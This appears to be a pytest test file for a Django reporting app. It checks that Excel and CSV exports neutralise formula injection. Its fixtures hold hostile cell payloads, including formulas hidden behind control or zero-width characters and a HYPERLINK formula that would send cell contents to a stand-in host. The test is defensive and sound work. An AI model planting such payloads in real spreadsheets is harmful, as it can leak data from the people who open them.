"""No formula leaves the app (issue 18): every .xlsx and .csv it writes, filled with hostile text.

Notes, organisation names, indicator names, units, sections and 口径, a rule's message, a person's
name and a document's words are set to text a spreadsheet would run: a formula character first, or
behind a tab, a space, a zero-width space or a control character that cleaning removes. Every
download the app offers is then read back cell by cell: the only formulas allowed are the entry
template's own totals, and no text starts with a formula character once blanks are skipped.
Same dataset as tests/test_reports_pages.py.
"""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from tests.conftest import PASSWORD, build_dataset, enter, set_status
from tracker.catalogue.models import Indicator, Kind
from tracker.checks.models import Rule
from tracker.entry.models import Report, Status, Value
from tracker.entry.workbook import FIRST_ORG_COLUMN
from tracker.spreadsheets import safe_cell_text, safe_sheet_title, spreadsheet_cell

LINK = '=HYPERLINK("http://x?"&A1,"c")'
# Notes as they could be stored (the admin keeps blanks the entry page strips), each a formula in a
# spreadsheet that trims or shifts what comes before it: (organisation, indicator) → note, in 2022.
NOTES = {
    ("forestry", "grp_special_inspections"): LINK,
    ("forestry", "grp_grassroots_orgs_guided"): "\x01=1+1",
    ("forestry", "grp_field_research_trips"): "\u200b=1+1",
    ("organ", "grp_cases_filed"): "+1+1",
    ("organ", "grp_petitions_received"): "-1+1",
    ("organ", "grp_form1_person_times"): "@SUM(A1)",
    ("organ", "grp_form2_person_times"): "\t=1",
    ("organ", "grp_form3_person_times"): " =1",
    ("organ", "grp_form4_person_times"): "a\x02b=1",
    ("park", "grp_petitions_received"): "\r\n=1",
}
# A formula character, after any run of blanks or characters that show as nothing.
UNSAFE = re.compile(r"^[\s\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202f\u2060-\u206f\ufeff]*[=+\-@]")
# The entry template's derived totals: a sum of single cells, nothing else (no quote, no other function).
OWN_TOTAL = re.compile(r"=SUM\([A-Z]{1,3}[0-9]+(,[A-Z]{1,3}[0-9]+)*\)")
ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
# A figure in a CSV: a negative one starts with "-" and is a number, not a formula.
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def offences(cells: list[tuple[str, object, str]], *, totals: bool = False) -> list[tuple[str, object]]:
    """(where, value) of each cell that a spreadsheet would run: (where, value, openpyxl's data type).

    With `totals` (the entry template) a formula shaped as the template's own totals passes here;
    the template's tests check where it stands too.
    """
    found = []
    for where, value, data_type in cells:
        if data_type == "f":
            if not (totals and OWN_TOTAL.fullmatch(str(value))):
                found.append((where, value))
        elif isinstance(value, str) and (UNSAFE.match(value) or ILLEGAL.search(value)):
            found.append((where, value))
    return found


def workbook_cells(content: bytes) -> list[tuple[str, object, str]]:
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    cells = []
    for sheet in book.worksheets:
        assert not ILLEGAL.search(sheet.title)
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    cells.append((f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type))
                if cell.comment is not None:
                    assert not ILLEGAL.search(cell.comment.text)
    return cells


def csv_cells(text: str) -> list[tuple[str, object, str]]:
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    return [
        (f"{number}:{column}", value, "n" if NUMBER.fullmatch(value) else "s")
        for number, row in enumerate(rows)
        for column, value in enumerate(row)
    ]


def download_cells(response) -> list[tuple[str, object, str]]:
    assert response.status_code == 200
    if response["Content-Type"] == XLSX:
        return workbook_cells(response.content)
    assert response["Content-Type"].startswith("text/csv")
    return csv_cells(response.content.decode("utf-8"))


def texts(cells: list[tuple[str, object, str]]) -> set[str]:
    return {value for _where, value, _type in cells if isinstance(value, str)}


@pytest.fixture
def hostile(world, indicators, bob, alice):
    """The dataset with hostile text wherever people or administrators type it; 2022 stays approved."""
    data = build_dataset(world, indicators)
    names = {"forestry": LINK, "organ": "+1+1", "park": "\x01=1+1", "nursery": " =1"}
    for key, name in names.items():
        data[key].name = name
        data[key].save()
    Indicator.objects.filter(code="grp_cases_filed").update(name_zh="-1+1", definition="=1\x02+1")
    Indicator.objects.filter(code="grp_petitions_received").update(name_zh="@SUM(A1)", unit="@A1")
    Indicator.objects.filter(code="grp_special_inspections").update(name_zh="\t=1", section="\u200b=1+1")
    # Shaped as the template's own totals are: only where it stands tells it apart.
    Indicator.objects.filter(code="grp_form1_person_times").update(name_zh="=SUM(D5,D6)")
    # Broken and skipped checks, each with a hostile message.
    set_status(Report.objects.filter(organisation=data["park"], year=2022), Status.DRAFT)
    enter(data["park"], "2022", {"grp_petitions_received": 2, "grp_petitions_accusation": 5})
    for (org, code), note in NOTES.items():
        Value.objects.filter(report__organisation=data[org], report__year=2022, indicator__code=code).update(note=note)
    Rule.objects.update(message=LINK)
    # The completeness page names who saved last.
    alice.last_name, alice.first_name = "=1+1", "\x01"
    alice.save()
    Value.history.model.objects.update(history_user=alice)
    return data


@pytest.fixture
def leader_client(client, hostile):
    client.login(username="bob", password=PASSWORD)
    return client


REPORT_DOWNLOADS = [
    ("/reports/forestry/2022/", "xlsx"),
    ("/reports/forestry/2022/", "csv"),
    ("/reports/forestry/2022/units/", "xlsx"),
    ("/reports/forestry/2022/units/", "csv"),
    ("/reports/forestry/trend/", "xlsx"),
    ("/reports/forestry/trend/", "csv"),
    ("/reports/forestry/2022/checks/", "xlsx"),
    ("/reports/forestry/2022/completeness/", "xlsx"),
]


class TestReportDownloads:
    @pytest.mark.parametrize(("url", "file_format"), REPORT_DOWNLOADS)
    @pytest.mark.parametrize("include_unapproved", ["", "1"])
    def test_it_writes_no_formula(self, leader_client, url, file_format, include_unapproved):
        response = leader_client.get(url, {"_export": file_format, "include_unapproved": include_unapproved})
        cells = download_cells(response)
        assert offences(cells) == []
        # The hostile text is there, made safe: the test read what it meant to.
        if file_format == "xlsx":
            assert "'" + LINK + " · " in " ".join(texts(cells))
        else:
            assert texts(cells) & {"'-1+1", "'@SUM(A1)", "'\t=1", "'" + LINK, "'=1+1"}

    def test_the_summary_shows_each_note_cleaned_then_quoted(self, leader_client):
        cells = download_cells(leader_client.get("/reports/forestry/2022/", {"_export": "xlsx"}))
        # Indicator names, then notes.
        assert {"'-1+1", "'@SUM(A1)", "'\t=1", "'" + LINK, "'\u200b=1+1"} <= texts(cells)
        # The control character is gone, and what it hid is quoted: it does not uncover a formula.
        assert "'=1+1" in texts(cells)

    def test_the_checks_name_the_rule_and_the_unit_safely(self, leader_client):
        cells = download_cells(leader_client.get("/reports/forestry/2022/checks/", {"_export": "xlsx"}))
        assert {"'" + LINK, "'=1+1"} <= texts(cells)

    def test_the_completeness_names_who_saved_safely(self, leader_client):
        cells = download_cells(leader_client.get("/reports/forestry/2022/completeness/", {"_export": "xlsx"}))
        assert {"'=1+1", "'+1+1", "' =1"} <= texts(cells)


class TestEntryTemplate:
    @pytest.mark.parametrize("org", ["forestry", "forestry-organ", "forestry-park"])
    def test_it_writes_only_its_own_totals(self, client, alice, hostile, org):
        client.force_login(alice)
        response = client.get(f"/entry/{org}/2022/template.xlsx")
        cells = download_cells(response)
        assert offences(cells, totals=True) == []
        # Each formula is a derived total's, in an organisation's column of that total's row.
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        totals = set(Indicator.objects.filter(kind=Kind.DERIVED_SUM).values_list("code", flat=True))
        formulas = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
        assert formulas, "the totals are formulas still"
        for cell in formulas:
            assert cell.column >= FIRST_ORG_COLUMN and cell.parent.cell(cell.row, 1).value in totals, cell.coordinate
        # The units' indicators' names, and the title naming the organisation.
        assert {"'-1+1", "'@SUM(A1)"} <= texts(cells)
        assert [text for text in texts(cells) if text.startswith("'") and text.endswith(" · 2022年 · 数据录入表")]

    def test_a_units_notes_are_quoted(self, client, alice, hostile):
        client.force_login(alice)
        cells = download_cells(client.get("/entry/forestry-organ/2022/template.xlsx"))
        assert {"'+1+1", "'-1+1", "'@SUM(A1)", "'\t=1", "' =1", "ab=1"} <= texts(cells)

    def test_a_control_character_in_a_note_is_cleaned_not_a_500(self, client, alice, world, indicators):
        enter(world["organ"], "2023Q1", {"grp_cases_filed": 2}, status=None)
        Value.objects.update(note="第一\x01=1+1\x1f行")
        client.force_login(alice)
        response = client.get("/entry/forestry-organ/2023Q1/template.xlsx")
        assert response.status_code == 200
        assert "第一=1+1行" in texts(workbook_cells(response.content))

    def test_a_control_character_in_a_name_or_a_definition_is_cleaned(self, client, alice, world, indicators):
        world["forestry"].name = "派驻\x0b组"
        world["forestry"].save()
        Indicator.objects.filter(code="grp_cases_filed").update(definition="口径\x02说明")
        client.force_login(alice)
        response = client.get("/entry/forestry/2023Q1/template.xlsx")
        assert response.status_code == 200
        assert "派驻组" in texts(workbook_cells(response.content))

    def test_quoted_notes_come_back_as_they_were(self, client, alice, world, indicators):
        """Downloaded and uploaded unchanged, the template changes no note: the import takes the quote off."""
        typed = [LINK, "+1+1", "-1+1", "@SUM(A1)"]
        codes = ["grp_cases_filed", "grp_petitions_received", "grp_petitions_letter", "grp_clues_accepted"]
        enter(world["organ"], "2023Q1", dict.fromkeys(codes, 1), status=None)
        for value, note in zip(Value.objects.order_by("pk"), typed, strict=True):
            value.note = note
            value.save()
        before = dict(Value.objects.values_list("pk", "note"))
        client.force_login(alice)
        response = client.get("/entry/forestry-organ/2023Q1/template.xlsx")
        upload = SimpleUploadedFile("录入表.xlsx", response.content)
        preview = client.post("/entry/import/", {"file": upload})
        assert not preview.context["errors"], [str(e) for e in preview.context["errors"]]
        assert preview.context["counts"]["changed"] == 0
        client.post("/entry/import/", {"confirm": "1"})
        assert dict(Value.objects.values_list("pk", "note")) == before


class TestExportValues:
    def test_it_writes_no_formula(self, hostile):
        out = io.StringIO()
        call_command("export_values", "--org", "forestry", "--year", "2022", stdout=out)
        cells = csv_cells(out.getvalue())
        assert offences(cells) == []
        assert {"'" + LINK, "'+1+1", "'=1+1", "' =1"} <= texts(cells)

    def test_the_export_imports_again_unchanged(self, world, indicators, tmp_path):
        enter(world["organ"], "2022", {"grp_cases_filed": 1, "grp_petitions_received": 2}, status=None)
        for value, note in zip(Value.objects.order_by("pk"), [LINK, "-1+1"], strict=True):
            value.note = note
            value.save()
        before = dict(Value.objects.values_list("pk", "note"))
        out = tmp_path / "out.csv"
        call_command("export_values", "--org", "forestry", "--year", "2022", "--output", str(out), stdout=io.StringIO())
        call_command("import_values", str(out), stdout=io.StringIO())
        assert dict(Value.objects.values_list("pk", "note")) == before


def test_bind_document_quotes_the_documents_words(db, tmp_path):
    source = tmp_path / "speech.txt"
    source.write_text("=HYPERLINK(1)立案12件。\n@A1处分3人。", encoding="utf-8")
    out = io.StringIO()
    call_command("bind_document", str(source), stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert "'=HYPERLINK(1)立案12件。 @A1处" in {row["context"] for row in rows}
    words = [(f"{n}:{key}", row[key], "s") for n, row in enumerate(rows) for key in ("found", "context")]
    assert offences(words) == []
    # The binding is a code or the app's own "-" for none: a lone dash is no formula.
    assert {row["binding"] for row in rows} <= {"-"} | set(Indicator.objects.values_list("code", flat=True))


class TestTheOneFunction:
    @pytest.mark.parametrize(
        ("typed", "written"),
        [
            ("\x01=1+1", "'=1+1"),  # cleaned first: the control character must not hide the formula
            (" =1", "' =1"),
            ("\u200b=1", "'\u200b=1"),
            ("\t=1", "'\t=1"),
            ("a\x02b", "ab"),
            ("'=1", "'=1"),  # quoted already: writing twice changes nothing
            ("立案=3", "立案=3"),
            ("", ""),
        ],
    )
    def test_it_cleans_then_neutralises(self, typed, written):
        assert safe_cell_text(typed) == written
        assert spreadsheet_cell(typed) == written

    def test_numbers_stay_numbers(self):
        assert spreadsheet_cell(-3) == -3 and spreadsheet_cell(None) is None

    def test_a_sheet_title_is_one_excel_takes(self):
        assert safe_sheet_title("'上期\x01 2022/1'") == "上期 2022-1"
        assert safe_sheet_title("\x01") == "Sheet1"
